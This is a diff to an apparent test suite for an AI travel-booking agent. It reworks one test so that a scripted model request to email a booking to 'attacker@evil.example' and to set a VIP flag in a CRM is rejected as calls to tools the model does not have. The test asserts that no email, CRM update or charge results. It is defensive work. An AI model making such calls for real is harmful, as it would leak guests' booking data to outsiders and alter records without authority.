@@ -87,20 +87,26 @@ async def test_paying_one_euro_is_denied_and_the_hold_is_released(world: StackCl
     assert (counts["booking"], counts["charge"], counts["booking_release"]) == (1, 0, 1), counts
 
 
-async def test_an_email_to_an_address_the_model_names_is_denied(world: StackClient) -> None:
+async def test_an_email_to_an_address_the_model_names_is_refused(world: StackClient) -> None:
+    """The model has no email tool (the confirmation is the projector's, to the verified address only): a model
+    that asks to mail the booking anywhere is refused as asking for a tool it does not have, before any rule."""
     _, guest, summary, events = await attack(
         world,
         script(
             ("search_hotels", SEARCH),
             ("create_booking", HOLD),
             ("send_confirmation_email", {"booking_id": "$booking_id", "to": "attacker@evil.example"}),
+            ("update_crm", {"booking_id": "$booking_id", "fields": {"vip": True}}),
         ),
     )
     assert summary["status"] == "completed", summary
-    assert denials(events) == [("send_confirmation_email", "verified_recipient")]
-    assert "send_confirmation_email" not in requested(events)
+    rejected = [(e["tool"], e["error"]["code"]) for e in of_type(events, "run.tool_rejected")]
+    assert rejected == [("send_confirmation_email", "unknown_tool"), ("update_crm", "unknown_tool")]
+    assert denials(events) == []
+    assert not {"send_confirmation_email", "update_crm"} & set(requested(events))
     counts = await world.counts(guest)
-    assert counts["email"] == 0, counts
+    # Never paid, so nothing to confirm either: no projection is planned for the run.
+    assert (counts["email"], counts["crm_update"], counts["charge"]) == (0, 0, 0), counts
 
 
 async def test_a_model_asking_the_same_search_again_and_again_is_handed_off_with_a_ticket(
